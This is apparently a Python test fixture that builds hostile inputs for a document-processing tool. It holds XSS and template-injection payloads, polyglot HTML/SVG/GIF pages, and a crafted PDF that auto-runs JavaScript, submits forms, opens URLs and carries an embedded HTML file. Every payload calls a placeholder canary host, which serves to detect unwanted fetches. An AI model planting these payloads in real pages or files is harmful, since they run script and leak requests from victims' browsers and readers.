"""PDFs made by hand, and texts that try to act. `{canary}` is filled with an address that must never be asked."""

from __future__ import annotations

CORPUS = [
    "<img src=x onerror=\"fetch('//{canary}/t1')\">",
    '"><svg onload="fetch(\'//{canary}/t2\')">',
    "'><script src=//{canary}/t3></script>",
    "<script>fetch('//{canary}/t4')</script>",
    "</textarea></title></style></script><script>fetch('//{canary}/t5')</script>",
    "javascript:fetch('//{canary}/t6')",
    '<div data-hx-get="//{canary}/t7" hx-get="//{canary}/t8" hx-trigger="load">x</div>',
    "<button hx-on:click=\"fetch('//{canary}/t9')\" autofocus onfocus=\"fetch('//{canary}/t10')\">x</button>",
    "<script hx-get='//{canary}/t11'></script>",
    "{{7*7}} ${7*7} #{7*7} {% include 'x' %}",
    "\u2028<iframe src=//{canary}/t12></iframe>\u2029]]>",
    "<link rel=stylesheet href=//{canary}/t13><style>@import '//{canary}/t14';</style>",
    "<meta http-equiv=refresh content='0;url=//{canary}/t15'><base href=//{canary}/t16>",
    "<object data=//{canary}/t17></object><embed src=//{canary}/t18><video src=//{canary}/t19 autoplay></video>",
    "<p style=\"background:url('//{canary}/t20')\">x</p>",
    "<details open ontoggle=fetch('//{canary}/t21')>x</details>",
    "<math><mi><style><img src=x onerror=fetch('//{canary}/t22')></style></mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('//{canary}/t23')>\">",
]
PAGE = "<!doctype html><html><body><script>fetch('//{canary}/{mark}')</script><img src=//{canary}/{mark}i><h1>Page</h1></body></html>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('//{canary}/{mark}')\"><script>fetch('//{canary}/{mark}s')</script></svg>"
XHTML = "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><script>fetch('//{canary}/{mark}')</script></body></html>"
GIF = "GIF89a/*" + PAGE + "*/=1;"


def pdf(
    content: str = "BT /F1 24 Tf 40 100 Td (Claimcheck) Tj ET",
    *,
    page: str = "",
    catalogue: str = "",
    more: tuple[str, ...] = (),
    pages: int = 1,
) -> bytes:
    """A PDF of like pages, 300 × 200 points. `more` are further objects, numbered from 10 on."""
    kids = " ".join(f"{100 + n} 0 R" for n in range(pages))
    objects = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {pages} /MediaBox [0 0 300 200] /Resources << /Font << /F1 3 0 R >> >> >>",
        3: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        **{10 + n: one for n, one in enumerate(more)},
        **{100 + n: f"<< /Type /Page /Parent 2 0 R /Contents 4 0 R {page} >>" for n in range(pages)},
    }
    body, offsets = "%PDF-1.7\n", {}
    for number, one in objects.items():
        offsets[number] = len(body)
        body += f"{number} 0 obj\n{one}\nendobj\n"
    table = "".join(f"{number} 1\n{at:010} 00000 n \n" for number, at in offsets.items())
    end = f"xref\n0 1\n0000000000 65535 f \n{table}trailer\n<< /Root 1 0 R /Size 1000 >>\nstartxref\n{len(body)}\n%%EOF\n"
    return (body + end).encode("latin-1")


def acting_pdf(canary: str) -> bytes:
    """One that opens addresses, submits forms, runs script and carries a file, all by itself."""
    there = f"http://{canary}"
    script = f"app.launchURL('{there}/p1'); this.submitForm('{there}/p2'); fetch('{there}/p3')"
    carried = PAGE.format(canary=canary, mark="p5")
    return pdf(
        catalogue="/OpenAction 10 0 R /AA << /WC 10 0 R >> /AcroForm << /Fields [11 0 R] /NeedAppearances true >>"
        " /Names << /JavaScript << /Names [(a) 10 0 R] >> /EmbeddedFiles << /Names [(x.html) 13 0 R] >> >>",
        page="/Annots [11 0 R 12 0 R] /AA << /O 10 0 R >>",
        more=(
            f"<< /S /JavaScript /JS ({script}) >>",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (typed) /Rect [40 40 200 60] /AA << /K 10 0 R /Fo 10 0 R >> >>",
            f"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI ({there}/p4) >> >>",
            "<< /Type /Filespec /F (x.html) /EF << /F 14 0 R >> >>",
            f"<< /Type /EmbeddedFile /Length {len(carried)} >>\nstream\n{carried}\nendstream",
        ),
    )


def locked_pdf() -> bytes:
    """One whose password nobody knows."""
    lock = f"<< /Filter /Standard /V 1 /R 2 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"
    return pdf().replace(b"/Size 1000", f"/Size 1000 /Encrypt {lock} /ID [<{'43' * 16}> <{'43' * 16}>]".encode())
